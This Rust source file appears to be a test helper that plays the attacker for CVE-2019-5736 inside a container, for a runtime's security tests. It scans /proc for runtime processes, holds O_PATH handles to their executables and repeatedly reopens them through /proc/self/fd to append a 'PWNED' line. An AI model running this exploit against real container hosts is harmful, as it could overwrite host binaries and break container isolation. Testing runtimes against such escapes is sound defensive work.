//! The attacker of CVE-2019-5736, run inside a container by tests/security.rs: for the given
//! number of milliseconds it opens /proc/PID/exe of every process it sees that is not one of the
//! container's own programs (a runtime process, still molt before its execve), O_PATH, keeps the
//! fd, and tries again and again to reopen it for writing through /proc/self/fd and append to
//! it (once the runtime has exited the file is no longer busy). Std-only and linked statically
//! (built by the test with rustc), so it runs in the busybox rootfs.
//!
//! Usage: exe-attacker MILLIS REPORT. The report, written at the end, is one line:
//! "seen=N held=N reopened=N written=N" plus the errors of the failed attempts.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::time::{Duration, Instant};

const O_PATH: i32 = 0o10000000;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let millis: u64 = args.get(1).and_then(|a| a.parse().ok()).unwrap_or(2000);
    let report = args.get(2).cloned().unwrap_or_else(|| "/dev/stdout".into());
    let me = std::process::id().to_string();
    let deadline = Instant::now() + Duration::from_millis(millis);
    let mut seen = BTreeSet::new();
    let mut held: Vec<File> = vec![];
    let mut held_pids = BTreeSet::new();
    let (mut reopened, mut written) = (0u64, 0u64);
    let mut errors: BTreeMap<String, u64> = BTreeMap::new();
    let mut note = |what: &str, e: &std::io::Error| *errors.entry(format!("{what}: {e}")).or_default() += 1;
    while Instant::now() < deadline {
        for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let pid = entry.file_name().to_string_lossy().to_string();
            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            // The container's own programs (busybox, this one) are files of its rootfs: only a
            // process whose exe cannot be read or lies outside the container is the runtime.
            if let Ok(target) = std::fs::read_link(&exe) {
                if std::path::Path::new(&target).exists() {
                    continue;
                }
            }
            seen.insert(pid.clone());
            if held_pids.contains(&pid) {
                continue;
            }
            match OpenOptions::new().read(true).custom_flags(O_PATH).open(&exe) {
                Ok(f) => {
                    held.push(f);
                    held_pids.insert(pid);
                }
                Err(e) => note("open O_PATH", &e),
            }
        }
        for f in &held {
            match OpenOptions::new().write(true).append(true).open(format!("/proc/self/fd/{}", f.as_raw_fd())) {
                Ok(mut w) => {
                    reopened += 1;
                    match w.write_all(b"PWNED by the container\n") {
                        Ok(()) => written += 1,
                        Err(e) => note("write", &e),
                    }
                }
                Err(e) => note("reopen O_WRONLY", &e),
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let errors: Vec<String> = errors.iter().map(|(e, n)| format!("{e} (x{n})")).collect();
    let line = format!("seen={} held={} reopened={reopened} written={written} errors=[{}]\n", seen.len(), held.len(), errors.join("; "));
    let _ = std::fs::write(&report, line);
}
